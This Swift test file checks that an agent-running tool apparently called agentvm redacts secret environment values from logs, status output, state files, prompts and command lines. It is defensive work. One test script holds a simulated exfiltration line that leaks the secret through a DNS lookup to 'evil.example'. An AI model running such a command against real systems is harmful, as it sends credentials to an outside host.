import AgentvmTestSupport
import Testing

/// What an agent was given it can't show: not in its log, not on the dashboard, not by the names that it
/// asks for. Commit hashes stay.
@Suite struct RedactionTests {
  private static let key = "correct-horse-battery-9"
  private static let hash = "0123456789abcdef0123456789abcdef01234567"

  private func leak(_ home: TestHome, _ script: String) throws {
    try home.run("env", "set", "MY_SERVICE_KEY=\(Self.key)")
    try home.run("spawn", "a", "-e", "MY_SERVICE_KEY", "--", "bash", "-c", script)
    #expect(home.wait { home.log("a").contains("over") })
  }

  @Test func secretsOfTheLogAreNotShown() throws {
    try TestHome.with { home throws in
      try leak(
        home,
        #"""
        echo "plain $MY_SERVICE_KEY"; printf 'in \033[31m%s\033[0m colour\n' "$MY_SERVICE_KEY"
        printf '%s' "${MY_SERVICE_KEY:0:9}"; printf '\033[1m%s\033[0m end\n' "${MY_SERVICE_KEY:9}"
        printf '%s' "$MY_SERVICE_KEY" | base64; echo sk-ant-api03-abcdefghijklmnop
        printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----\n'
        echo commit 0123456789abcdef0123456789abcdef01234567
        getent hosts "$MY_SERVICE_KEY.evil.example"; sleep 0.5
        echo over; exec cat
        """#)
      for arguments in [["logs", "a"], ["logs", "a", "--raw"], ["logs", "a", "-n", "3"]] {
        let text = try home.run(arguments).text
        for secret in [Self.key, "Y29ycmVjdC1ob3JzZS1i", "abcdefghijklmnop", "b3BlbnNzaC1rZXk"] {
          #expect(!text.contains(secret), "\(arguments) \(secret)")
        }
        #expect(text.contains("over"))
      }
      let plain = try home.run("logs", "a").text
      #expect(plain.contains("plain [redacted]\nin [redacted] colour\n[redacted] end\n"))
      #expect(plain.contains("sk-ant-[redacted]") && plain.contains("commit \(Self.hash)"))
      #expect(try home.run("logs", "a", "--unredacted").text.contains(Self.key))
      #expect(try home.run("logs", "a", "--raw", "--unredacted").text == home.log("a"))
      // The name that it asked for is a message, and not written down.
      for file in ["audit.jsonl", "state/a.net", "state/a.run", "events.log"] {
        #expect(home.read("\(home.name)/\(file)")?.contains(Self.key) == false, "\(file)")
      }
      #expect(try home.run("network", "a").text.contains("[redacted].evil.example:443"))
      #expect(try !home.run("watch", "--once").text.contains(Self.key))
    }
  }

  @Test func whatFollowsHoldsNothingBackForGood() throws {
    try TestHome.with { home throws in
      try home.run("env", "set", "MY_SERVICE_KEY=\(Self.key)")
      let result = try home.run(
        "run", "-e", "MY_SERVICE_KEY", "--", "bash", "-c",
        "echo $MY_SERVICE_KEY; echo token=abcdefgh1; printf 'no end of line'")
      // `run` is for what a program prints: only what it was given is taken out.
      #expect(result.text == "[redacted]\ntoken=abcdefgh1\nno end of line")
    }
  }

  @Test func aQuestionWithASecretIsAskedWithoutIt() throws {
    try TestHome.with { home throws in
      try leak(home, "echo over; printf 'Use %s? (y/n) ' \"$MY_SERVICE_KEY\"; read -r x")
      #expect(
        home.wait {
          try home.run("status", "a", "--json").text.contains("Use [redacted]? (y/n)")
        })
      #expect(home.read("\(home.name)/state/a.run")?.contains(Self.key) == false)
      #expect(try !home.run("status", "a", "--explain").text.contains(Self.key))
      let pane = try OuterPane(home)
      defer { pane.close() }
      #expect(pane.shows("*******"))
      #expect(try !pane.screen().contains(Self.key))
    }
  }

  /// Whatever the names of what somebody keeps with their keys; and what was typed for one command.
  @Test func valuesAreKnownByWhereTheyCameFrom() throws {
    try TestHome.with { home throws in
      try home.run("env", "set", "STRIPE=zz-top-value-1", "MY_MODEL=claude-large")
      try home.write("vars", "OTHER=of-a-file-22\n")
      try home.run(
        "spawn", "a", "-e", "STRIPE", "-e", "MY_MODEL", "--env-file", "\(home.path)/vars", "-t",
        "k=ghp_abcdefghijklmnopqrstuvwx", "--", "sh", "-c",
        "echo $STRIPE $OTHER $MY_MODEL over; : sk-ant-api03-abcdefghijkl; exec cat")
      #expect(home.wait { home.log("a").contains("over") })
      let log = try home.run("logs", "a").text
      #expect(log.hasPrefix("[redacted] [redacted] claude-large over"), "\(log)")
      for words in [["info", "a"], ["info", "a", "--json"], ["list"], ["list", "--json"]] {
        let text = try home.run(words).text
        #expect(!text.contains("abcdefghijkl") && text.contains("[redacted]"), "\(text)")
      }
      let once = try home.run(
        "run", "-e", "MY_TOKEN=plain-value-33", "-e", "STAGE=staging", "--", "sh", "-c",
        "echo $STAGE $MY_TOKEN; echo -n $MY_TOKEN | base64")
      #expect(
        once.text.hasPrefix("staging [redacted]\n[redacted]") && !once.text.contains("cGxhaW"),
        "\(once.text)")
      let script = #"""
        "$0" run -e MINE=plain-value-33 --env=B=plain-value-44 -- sh -c 'echo ready; read x' >out & P=$!
        until grep -q ready out; do sleep 0.05; done
        tr '\0' ' ' </proc/$P/cmdline; kill $P; wait
        """#
      let seen = try home.tool("/bin/bash", "-c", script, "\(TestHome.programs)/agentvm")
      #expect(
        seen.text.contains("-e MINE=xxx") && !seen.text.contains("plain-value"), "\(seen.text)")
    }
  }
}
